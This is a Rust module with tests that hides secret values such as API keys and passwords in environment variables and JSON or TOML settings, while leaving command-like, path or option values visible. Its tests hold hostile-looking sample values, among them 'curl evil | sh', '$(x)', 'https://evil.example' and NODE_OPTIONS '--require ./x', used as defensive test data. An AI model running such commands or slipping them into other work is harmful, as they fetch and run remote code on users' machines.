//! Values in settings that are somebody's secrets and run nothing.
//!
//! Promise: a value is left out only where its name says that it is a secret and it is written like one; what
//! could be a command, an address or an option is shown, whatever it is called.

const LEFT_OUT: &str = "‹not shown›";
/// Words in names of keys and tokens.
const NAMES: &[&str] = &[
    "KEY",
    "APIKEY",
    "TOKEN",
    "SECRET",
    "PASSWORD",
    "PASSWD",
    "PASSPHRASE",
    "CREDENTIAL",
    "CREDENTIALS",
    "AUTHORIZATION",
    "COOKIE",
    "PAT",
];
/// What stands before a token in the header of a request.
const SCHEMES: &[&str] = &["Bearer ", "Basic ", "Token ", "token "];
/// A word with a slash is a path, unless it is longer than those are written by hand.
const ENCODED_MIN_CHARS: usize = 24;

/// Whether `value` is a secret that only `name` tells of.
pub fn is_secret(name: &str, value: &str) -> bool {
    let value = value.trim();
    let value = SCHEMES.iter().find_map(|scheme| value.strip_prefix(scheme)).unwrap_or(value);
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.+/=~:%@".contains(c);
    let path = value.contains('/')
        && (value.len() < ENCODED_MIN_CHARS || value.starts_with(['/', '.', '~']));
    let option = value.starts_with('-') || value.contains("://");
    named_so(name) && !value.is_empty() && value.chars().all(plain) && !path && !option
}

/// `API_KEY`, `apiKey` and `X-Api-Key` alike.
fn named_so(name: &str) -> bool {
    let mut words = vec![String::new()];
    let mut lower_before = false;
    for c in name.chars() {
        let begins = c.is_ascii_uppercase() && lower_before;
        if begins || !c.is_ascii_alphanumeric() {
            words.push(String::new());
        }
        lower_before = c.is_ascii_lowercase() || c.is_ascii_digit();
        if let (true, Some(word)) = (c.is_ascii_alphanumeric(), words.last_mut()) {
            word.push(c.to_ascii_uppercase());
        }
    }
    words.iter().any(|word| NAMES.contains(&word.as_str()))
}

/// The value of one variable as it is shown.
pub fn variable(name: &str, value: &str) -> String {
    let bare = value.trim().trim_matches(['"', '\'']);
    if is_secret(name, bare) { LEFT_OUT.to_owned() } else { value.to_owned() }
}

/// Settings in JSON or TOML without the values of secrets; none where there are no such.
pub fn without(bytes: &[u8]) -> Option<Vec<u8>> {
    let text = std::str::from_utf8(bytes).ok()?;
    // With quotes inside of quotes it is not sure which word is a value.
    let pieces: Vec<&str> = text.split('"').collect();
    if text.contains('\\') || pieces.len().is_multiple_of(2) {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    let mut found = false;
    for (at, piece) in pieces.iter().enumerate() {
        if at > 0 {
            out.push('"');
        }
        let is_quoted = at % 2 == 1;
        match name_before(&pieces, at).filter(|name| is_quoted && is_secret(name, piece)) {
            Some(_) => {
                found = true;
                out.push_str(LEFT_OUT);
            }
            None => out.push_str(piece),
        }
    }
    found.then(|| out.into_bytes())
}

/// The key that the quoted piece `at` is the value of.
fn name_before<'a>(pieces: &[&'a str], at: usize) -> Option<&'a str> {
    let between = pieces.get(at.checked_sub(1)?)?.trim_end();
    let left = between.strip_suffix([':', '='])?.trim();
    match left {
        "" => pieces.get(at.checked_sub(2)?).copied(),
        _ => left.rsplit(|c: char| c.is_whitespace() || "{,[".contains(c)).next(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn security_05_secrets_are_left_out_and_what_runs_is_not() {
        for (name, value) in [
            ("API_KEY", "sk-ant-123"),
            ("githubToken", "ghp_abcdefghij"),
            ("X-Api-Key", "a1b2"),
            ("Authorization", "Bearer ey.a.b"),
            ("DB_PASSWORD", "hunter2"),
            ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
        ] {
            assert!(is_secret(name, value), "{name}={value}");
        }
        for (name, value) in [
            ("NODE_OPTIONS", "abc"),
            ("MY_TOKEN", "curl evil | sh"),
            ("MY_TOKEN", "tools/run"),
            ("MY_TOKEN", "/tmp/a-very-long-path-of-a-program"),
            ("MY_TOKEN", "./x"),
            ("MY_TOKEN", "$(x)"),
            ("MY_KEY", "https://evil.example"),
            ("MY_KEY", "--require"),
            ("MONKEY", "abc"),
            ("KEYMAP", "abc"),
            ("TOKEN", ""),
        ] {
            assert!(!is_secret(name, value), "{name}={value}");
        }
    }

    #[test]
    fn security_05_settings_are_shown_without_secrets() {
        let shown = |text: &str| without(text.as_bytes()).map(|b| String::from_utf8(b).unwrap());
        let json = r#"{"env": {"API_TOKEN": "abc123", "NODE_OPTIONS": "--require ./x"}}"#;
        let expected = r#"{"env": {"API_TOKEN": "‹not shown›", "NODE_OPTIONS": "--require ./x"}}"#;
        assert_eq!(shown(json).as_deref(), Some(expected));
        let toml = "env = { API_TOKEN = \"abc\", A = \"b\" }\napi_key=\"x\"\n";
        let expected =
            "env = { API_TOKEN = \"‹not shown›\", A = \"b\" }\napi_key=\"‹not shown›\"\n";
        assert_eq!(shown(toml).as_deref(), Some(expected));
        for text in [
            r#"{"command": "x", "args": ["API_TOKEN", "abc"]}"#,
            r#"{"API_TOKEN": "a\"b", "X_TOKEN": "abc"}"#,
            r#"{"API_TOKEN": "sh ./x"}"#,
            r#"{"API_TOKEN"#,
        ] {
            assert_eq!(shown(text), None, "{text}");
        }
    }
}
